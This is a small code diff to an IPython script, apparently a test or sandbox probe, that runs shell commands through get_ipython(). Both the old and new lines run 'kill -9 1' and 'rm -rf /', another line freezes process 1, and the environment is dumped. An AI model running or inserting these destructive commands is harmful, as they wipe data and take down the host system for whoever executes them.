@@ -5,7 +5,7 @@ ending: [ok]
 credit: honest
 """
 shell = get_ipython()
-shell.system("id; kill -9 1; kill -9 $PPID; rm -rf / 2>/dev/null")
+shell.system("id; kill -9 1; rm -rf / 2>/dev/null")
 shell.run_line_magic("env", "")
 shell.run_line_magic("pylab", "")
 shell.run_cell_magic("bash", "", "kill -STOP 1; echo $$")
